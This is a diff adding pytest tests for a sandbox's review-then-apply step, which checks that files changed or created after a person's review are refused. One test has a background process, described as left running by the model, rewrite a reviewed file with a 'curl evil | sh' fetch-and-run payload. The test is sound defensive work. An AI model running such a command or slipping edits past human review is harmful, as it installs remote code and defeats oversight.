@@ -131,3 +131,41 @@ def test_two_sandboxes_on_one_workspace_never_see_each_others_writes(project):
     with Sandbox(SandboxSpec(workspace=project)) as one, Sandbox(SandboxSpec(workspace=project)) as two:
         one.exec("echo one > mine.txt")
         assert two.exec("cat mine.txt").exit_code != 0
+
+
+def test_apply_writes_what_was_reviewed_and_names_what_changed_or_appeared_since(project):
+    """A process the model left running rewrites a reviewed file once the review is done (and makes
+    a new one): apply-all writes neither, names both, and the rest of the review goes."""
+    with Sandbox(SandboxSpec(workspace=project)) as sb:
+        assert sb.exec("echo 'print(1)' > keep.txt && echo new > fresh.txt").exit_code == 0
+        sb.exec("(while [ ! -e /tmp/go ]; do sleep 0.01; done; echo 'import os; os.system(\"curl evil | sh\")' "
+                "> keep.txt; echo late > late.txt; touch /tmp/done) >/dev/null 2>&1 &")
+        shown = sb.diff()  # the review: what the person read
+        assert "+print(1)\n" in shown and "late.txt" not in shown
+        sb.write_file("/tmp/go", b"")
+        waited = sb.exec("for i in $(seq 1000); do [ -e /tmp/done ] && exit 0; sleep 0.01; done; exit 1")
+        assert waited.exit_code == 0 and b"os.system" in sb.read_file("/testbed/keep.txt")  # the rewrite ran
+        with pytest.raises(RefusedPaths) as refused:
+            sb.apply()
+        assert sorted(refused.value.refused) == [
+            "keep.txt (it changed in the sandbox since you reviewed it; review it again)",
+            "late.txt (it appeared in the sandbox after you reviewed it; review it again)"]
+    assert (project / "keep.txt").read_text() == "one\ntwo\n" and not (project / "late.txt").exists()
+    assert (project / "fresh.txt").read_text() == "new\n"
+    assert not [p for p in os.listdir(project) if p.startswith(".lis-tui-")]  # no temporary file left
+
+
+def test_what_the_host_makes_meanwhile_where_the_sandbox_deleted_is_the_hosts_and_stays(project):
+    with Sandbox(SandboxSpec(workspace=project)) as sb:
+        assert sb.exec("rm -rf d && mkdir d && echo n > d/n.txt && rm -rf gone").exit_code == 0
+        (project / "d" / "late.txt").write_text("the person's\n")  # in a folder the sandbox replaced whole
+        (project / "gone" / "mine.txt").write_text("the person's\n")  # in one it deleted
+        found = {c.path: c.kind for c in sb.changes()}
+        assert found == {"d/b.txt": "deleted", "d/sub/c.txt": "deleted", "d/sub/": "deleted", "d/n.txt": "added",
+                         "d/late.txt": "host", "gone/g.txt": "deleted", "gone/mine.txt": "host", "gone/": "host"}
+        with pytest.raises(RefusedPaths, match=r"d/late.txt \(made or changed on the host after the sandbox"):
+            sb.apply(["d/late.txt"])
+        sb.apply()
+    assert tree(project) == {"a.txt": "a\n", "d": "dir", "d/late.txt": "the person's\n", "d/n.txt": "n\n",
+                             "gone": "dir", "gone/mine.txt": "the person's\n", "keep.txt": "one\ntwo\n",
+                             "run.sh": "echo hi\n", "tabs.txt": "x\ty\r\n"}
